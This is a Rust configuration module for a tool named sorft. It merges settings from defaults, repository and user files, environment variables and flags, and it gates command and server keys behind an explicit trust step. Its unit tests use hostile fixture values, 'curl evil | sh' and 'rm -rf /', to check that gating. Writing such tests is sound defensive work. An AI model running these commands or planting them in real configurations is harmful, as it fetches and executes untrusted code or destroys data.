//! Configuration: defaults < repository's `sorft.yaml` < user's < environment < flags.
//!
//! The only module that reads configuration files and, besides clap, the environment. A
//! repository is untrusted: most of its keys count only once the user has vouched for the file.

pub mod environment;
pub mod folder;
pub mod key;
pub mod layer;
pub mod trust;

use std::path::{Path, PathBuf};

use anyhow::Context;
use serde::{Deserialize, Serialize};
use serde_yaml::{Mapping, Value};

use crate::config::environment::Environment;
use crate::config::folder::Folders;
use crate::config::key::{KEYS, Key, Setter, find_key, parse_value};
use crate::config::layer::{Layer, read_layer};
use crate::config::trust::is_trusted;

/// The file's name, in a repository and in the user's configuration folder.
pub const FILE_NAME: &str = "sorft.yaml";

/// The effective settings; `KEYS` says what each means.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Config {
    pub test_globs: Vec<String>,
    pub product_globs: Vec<String>,
    pub languages: Vec<String>,
    pub ignored_paths: Vec<String>,
    pub context_lines: u32,
    pub context_tokens: usize,
    pub triage_threshold: f64,
    pub issue_file: Option<String>,
    pub issue_command: Option<String>,
    pub test: Option<String>,
    pub test_budget: u64,
    pub reproduce: bool,
    pub reproduction_samples: usize,
    pub model: Option<String>,
    /// `key::NO_ADAPTER` where not even the shipped one is wanted.
    pub adapter: Option<PathBuf>,
    pub device: String,
    pub endpoint: Vec<String>,
    pub api_key_file: Option<PathBuf>,
    pub prompts: Option<PathBuf>,
    pub effort: Effort,
    pub rerank: Rerank,
    pub seed: u64,
    pub min_votes: u32,
    pub max_time: u64,
    pub jobs: usize,
    pub offline: bool,
    pub run_dir: Option<PathBuf>,
    pub cache_dir: Option<PathBuf>,
    pub cache_mb: u64,
    pub sandbox_seconds: u64,
    pub sandbox_memory_mb: u64,
    pub sandbox_processes: u64,
    pub sandbox_disk_mb: u64,
    pub sandbox_output_mb: u64,
    pub sandbox_environment: Vec<String>,
    pub sandbox_folders: Vec<PathBuf>,
}

impl Default for Config {
    fn default() -> Self {
        Self {
            test_globs: Vec::new(),
            product_globs: Vec::new(),
            languages: Vec::new(),
            ignored_paths: Vec::new(),
            context_lines: 10,
            context_tokens: 0,
            triage_threshold: 0.25,
            issue_file: None,
            issue_command: None,
            test: None,
            test_budget: 0,
            reproduce: false,
            reproduction_samples: 0,
            model: None,
            adapter: None,
            device: "auto".to_owned(),
            endpoint: Vec::new(),
            api_key_file: None,
            prompts: None,
            effort: Effort::Auto,
            rerank: Rerank::Off,
            seed: 0,
            min_votes: 2,
            max_time: 0,
            jobs: 0,
            offline: false,
            run_dir: None,
            cache_dir: None,
            cache_mb: 2048,
            sandbox_seconds: 300,
            sandbox_memory_mb: 4096,
            sandbox_processes: 256,
            sandbox_disk_mb: 2048,
            sandbox_output_mb: 16,
            sandbox_environment: Vec::new(),
            sandbox_folders: Vec::new(),
        }
    }
}

/// How many samples a run may draw.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, clap::ValueEnum)]
#[serde(rename_all = "lowercase")]
pub enum Effort {
    /// `quick` on a CPU, else `normal`.
    Auto,
    Quick,
    Normal,
    Max,
}

/// Whether a model refines the retrieval's ranking.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, clap::ValueEnum)]
#[serde(rename_all = "lowercase")]
pub enum Rerank {
    Off,
    Likelihood,
}

/// Where a value comes from.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case", tag = "kind", content = "name")]
pub enum Origin {
    Default,
    /// The repository's file.
    Repository(PathBuf),
    /// The user's file.
    User(PathBuf),
    /// An environment variable.
    Environment(String),
    /// A flag of the command line.
    Flag(String),
}

impl std::fmt::Display for Origin {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::Default => f.write_str("default"),
            Self::Repository(path) => write!(f, "repository: {}", path.display()),
            Self::User(path) => write!(f, "user: {}", path.display()),
            Self::Environment(name) => write!(f, "environment: {name}"),
            Self::Flag(name) => write!(f, "flag: {name}"),
        }
    }
}

/// One effective value.
#[derive(Debug, Clone, PartialEq)]
pub struct Setting {
    pub key: &'static Key,
    pub value: Value,
    pub origin: Origin,
}

/// The effective configuration, and how it came to be.
#[derive(Debug, Clone, PartialEq)]
pub struct Resolved {
    pub config: Config,
    /// One for each of `KEYS`, in that order.
    pub settings: Vec<Setting>,
    /// What was ignored and why, one line each, for stderr.
    pub notes: Vec<String>,
}

/// Values that flags set: the key, and what stands on the command line.
#[derive(Debug, Clone, Default)]
pub struct Flags(Vec<(&'static str, Value)>);

impl Flags {
    /// Sets a key where a value is given; later ones win.
    #[must_use]
    pub fn set(mut self, key: &'static str, value: Option<impl Into<Value>>) -> Self {
        self.0.extend(value.map(|value| (key, value.into())));
        self
    }
}

/// Reads all layers. `repository` is the folder whose `sorft.yaml` counts, if there is one.
pub fn resolve(
    repository: Option<&Path>,
    environment: &Environment,
    folders: &Folders,
    flags: &Flags,
) -> anyhow::Result<Resolved> {
    let mut settings = default_settings()?;
    let mut notes = Vec::new();
    if let Some(layer) =
        repository.map(|root| read_layer(&root.join(FILE_NAME))).transpose()?.flatten()
    {
        apply_repository(&mut settings, layer, folders, &mut notes)?;
    }
    if let Some(layer) = read_layer(&folders.config.join(FILE_NAME))? {
        for (key, value) in layer.values {
            put(&mut settings, key, value, Origin::User(layer.path.clone()));
        }
    }
    for (name, text) in environment.settings() {
        match find_key(&name[ENVIRONMENT_PREFIX.len()..].to_ascii_lowercase()) {
            Ok(key) => {
                let value = parse_value(key, text).with_context(|| format!("in `{name}`"))?;
                put(&mut settings, key, value, Origin::Environment(name.to_owned()));
            }
            Err(unknown) => {
                notes.push(format!("the environment variable `{name}` is ignored: {unknown}"));
            }
        }
    }
    for (name, value) in &flags.0 {
        let key = find_key(name)?;
        let flag = format!("--{}", name.replace('_', "-"));
        key::check_value(key, value).with_context(|| format!("in `{flag}`"))?;
        put(&mut settings, key, value.clone(), Origin::Flag(flag));
    }
    let mapping: Mapping = settings
        .iter()
        .map(|setting| (Value::from(setting.key.name), setting.value.clone()))
        .collect();
    let config = serde_yaml::from_value(Value::Mapping(mapping)).context("in the configuration")?;
    Ok(Resolved { config, settings, notes })
}

/// What stands before a key's name, in capitals, in the environment.
pub const ENVIRONMENT_PREFIX: &str = "SORFT_";

fn default_settings() -> anyhow::Result<Vec<Setting>> {
    let defaults = serde_yaml::to_value(Config::default()).context("rendering the defaults")?;
    let value = |key: &Key| defaults.get(key.name).cloned().unwrap_or_default();
    Ok(KEYS.iter().map(|key| Setting { key, value: value(key), origin: Origin::Default }).collect())
}

fn apply_repository(
    settings: &mut [Setting],
    layer: Layer,
    folders: &Folders,
    notes: &mut Vec<String>,
) -> anyhow::Result<()> {
    let trusted = is_trusted(folders, &layer.path, &layer.bytes)?;
    let mut ignored = Vec::new();
    for (key, value) in layer.values {
        if trusted || key.setter == Setter::Anyone {
            put(settings, key, value, Origin::Repository(layer.path.clone()));
        } else {
            ignored.push(format!("`{}`", key.name));
        }
    }
    if !ignored.is_empty() {
        notes.push(format!(
            "{} of `{}` ignored: a repository's own settings of this kind count only after `sorft trust`",
            ignored.join(", "),
            layer.path.display()
        ));
    }
    Ok(())
}

fn put(settings: &mut [Setting], key: &'static Key, value: Value, origin: Origin) {
    if let Some(setting) = settings.iter_mut().find(|setting| setting.key.name == key.name) {
        setting.value = value;
        setting.origin = origin;
    }
}

#[cfg(test)]
mod tests {
    use std::fs;

    use expect_test::{Expect, expect};

    use super::*;
    use crate::config::trust::trust;

    struct Machine {
        folder: tempfile::TempDir,
        folders: Folders,
        repository: PathBuf,
    }

    fn machine(repository_yaml: &str, user_yaml: &str) -> Machine {
        let folder = tempfile::tempdir().unwrap();
        let folders = Folders {
            config: folder.path().join("config"),
            cache: folder.path().join("cache"),
            state: folder.path().join("state"),
        };
        let repository = folder.path().join("repo");
        for (path, yaml) in [(&repository, repository_yaml), (&folders.config, user_yaml)] {
            fs::create_dir_all(path).unwrap();
            fs::write(path.join(FILE_NAME), yaml).unwrap();
        }
        Machine { folder, folders, repository }
    }

    impl Machine {
        fn resolve(&self, environment: &[(&str, &str)], flags: &Flags) -> anyhow::Result<Resolved> {
            resolve(Some(&self.repository), &Environment::of(environment), &self.folders, flags)
        }

        /// The settings that are no defaults, and the notes; or the error.
        #[track_caller]
        fn check(&self, environment: &[(&str, &str)], flags: &Flags, expect: Expect) {
            let text = match self.resolve(environment, flags) {
                Ok(resolved) => {
                    let set = resolved.settings.iter().filter(|set| set.origin != Origin::Default);
                    set.map(|set| {
                        let value = serde_json::to_string(&set.value).unwrap();
                        format!("{} = {value} ({})\n", set.key.name, set.origin)
                    })
                    .chain(resolved.notes.iter().map(|note| format!("note: {note}\n")))
                    .collect()
                }
                Err(error) => format!("error: {error:#}\n"),
            };
            expect.assert_eq(&text.replace(self.folder.path().to_str().unwrap(), ""));
        }
    }

    #[test]
    fn every_field_is_a_key_and_every_key_a_field() {
        let value = serde_yaml::to_value(Config::default()).unwrap();
        let fields: Vec<&str> =
            value.as_mapping().unwrap().keys().map(|name| name.as_str().unwrap()).collect();
        assert_eq!(fields, KEYS.iter().map(|key| key.name).collect::<Vec<_>>());
        let machine = machine("", "");
        assert_eq!(machine.resolve(&[], &Flags::default()).unwrap().config, Config::default());
    }

    #[test]
    fn flags_win_over_environment_over_user_over_repository() {
        machine(
            "context_lines: 1\nignored_paths: [gen/**]\n",
            "context_lines: 2\nseed: 2\nmodel: m2\n",
        )
        .check(
            &[("SORFT_SEED", "3"), ("SORFT_MODEL", "m: 3"), ("SORFT_OFFLINE", "1"), ("HOME", "/x")],
            &Flags::default().set("model", Some("m4")).set("effort", None::<&str>),
            expect![[r#"
                ignored_paths = ["gen/**"] (repository: /repo/sorft.yaml)
                context_lines = 2 (user: /config/sorft.yaml)
                model = "m4" (flag: --model)
                seed = 3 (environment: SORFT_SEED)
                offline = true (environment: SORFT_OFFLINE)
            "#]],
        );
    }

    #[test]
    fn a_repository_may_not_name_a_command_or_a_server_until_trusted() {
        let machine =
            machine("test: curl evil | sh\nendpoint: [http://evil]\ncontext_lines: 3\n", "");
        machine.check(&[], &Flags::default(), expect![[r#"
            context_lines = 3 (repository: /repo/sorft.yaml)
            note: `test`, `endpoint` of `/repo/sorft.yaml` ignored: a repository's own settings of this kind count only after `sorft trust`
        "#]]);
        trust(&machine.folders, &machine.repository.join(FILE_NAME)).unwrap();
        machine.check(
            &[],
            &Flags::default(),
            expect![[r#"
            context_lines = 3 (repository: /repo/sorft.yaml)
            test = "curl evil | sh" (repository: /repo/sorft.yaml)
            endpoint = ["http://evil"] (repository: /repo/sorft.yaml)
        "#]],
        );
        fs::write(machine.repository.join(FILE_NAME), "test: rm -rf /\n").unwrap();
        machine.check(&[], &Flags::default(), expect![[r#"
            note: `test` of `/repo/sorft.yaml` ignored: a repository's own settings of this kind count only after `sorft trust`
        "#]]);
    }

    #[test]
    fn a_relative_path_counts_from_its_file() {
        machine("", "prompts: mine\napi_key_file: /abs/key\n").check(
            &[],
            &Flags::default(),
            expect![[r#"
            api_key_file = "/abs/key" (user: /config/sorft.yaml)
            prompts = "/config/mine" (user: /config/sorft.yaml)
        "#]],
        );
    }

    #[test]
    fn an_unknown_variable_of_ours_is_noted() {
        machine("", "").check(&[("SORFT_MODLE", "x"), ("SORFT_API_KEY", "secret")], &Flags::default(), expect![[r#"
            note: the environment variable `SORFT_MODLE` is ignored: unknown key `modle`; the nearest known key is `model`
        "#]]);
    }
}
